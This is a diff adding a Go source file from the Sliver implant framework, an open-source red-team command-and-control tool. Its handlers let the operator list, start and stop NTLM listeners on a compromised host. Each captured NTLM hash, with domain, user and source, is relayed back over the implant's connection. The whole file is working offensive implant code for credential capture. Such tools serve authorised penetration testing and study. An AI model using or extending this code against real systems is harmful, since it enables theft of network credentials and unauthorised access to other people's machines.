@@ -0,0 +1,109 @@
+package handlers
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/implant/sliver/ntlm"
+	"github.com/bishopfox/sliver/implant/sliver/transports"
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
+	"google.golang.org/protobuf/proto"
+)
+
+func ntlmListenersHandler(envelope *pb.Envelope, connection *transports.Connection) {
+	data, _ := proto.Marshal(&pb.NTLMListeners{
+		Listeners: ntlm.Listeners.List(),
+		Response:  &commonpb.Response{},
+	})
+	connection.Send <- &pb.Envelope{
+		ID:   envelope.ID,
+		Data: data,
+	}
+}
+
+func ntlmStartListenerHandler(envelope *pb.Envelope, connection *transports.Connection) {
+	req := &pb.NTLMStartListenerReq{}
+	resp := &pb.NTLMListener{Response: &commonpb.Response{}}
+	err := proto.Unmarshal(envelope.Data, req)
+	if err != nil {
+		resp.Response = pb.ErrorResponse(err)
+		data, _ := proto.Marshal(resp)
+		connection.Send <- &pb.Envelope{
+			ID:   envelope.ID,
+			Data: data,
+		}
+		return
+	}
+	listener, err := ntlm.Listeners.Start(req, connection, func(capture *pb.NTLMCapture) {
+		// {{if .Config.Debug}}
+		log.Printf("[ntlm] Captured %s hash for %s\\%s from %s", capture.HashType, capture.Domain, capture.User, capture.Source)
+		// {{end}}
+		data, _ := proto.Marshal(&pb.NTLMCaptures{Captures: []*pb.NTLMCapture{capture}})
+		connection.Send <- &pb.Envelope{
+			Type: pb.MsgNTLMCaptures,
+			Data: data,
+		}
+	})
+	if err == ntlm.ErrAlreadyListening {
+		resp.Response.Err = "Already listening on " + req.BindAddress + "\n"
+		resp.Response.ErrCode = commonpb.ErrorCode_ALREADY_EXISTS
+	} else if err != nil {
+		resp.Response = pb.ErrorResponse(err)
+	} else {
+		resp = listener.Meta()
+		resp.Response = &commonpb.Response{}
+	}
+	data, _ := proto.Marshal(resp)
+	connection.Send <- &pb.Envelope{
+		ID:   envelope.ID,
+		Data: data,
+	}
+}
+
+func ntlmStopListenerHandler(envelope *pb.Envelope, connection *transports.Connection) {
+	req := &pb.NTLMStopListenerReq{}
+	resp := &pb.NTLMListener{Response: &commonpb.Response{}}
+	err := proto.Unmarshal(envelope.Data, req)
+	if err != nil {
+		resp.Response = pb.ErrorResponse(err)
+		data, _ := proto.Marshal(resp)
+		connection.Send <- &pb.Envelope{
+			ID:   envelope.ID,
+			Data: data,
+		}
+		return
+	}
+	listener := ntlm.Listeners.Stop(int(req.ID))
+	if listener != nil {
+		resp = listener.Meta()
+		resp.Response = &commonpb.Response{}
+	} else {
+		resp.Response.Err = "Invalid ID\n"
+		resp.Response.ErrCode = commonpb.ErrorCode_INVALID_ARGUMENT
+	}
+	data, _ := proto.Marshal(resp)
+	connection.Send <- &pb.Envelope{
+		ID:   envelope.ID,
+		Data: data,
+	}
+}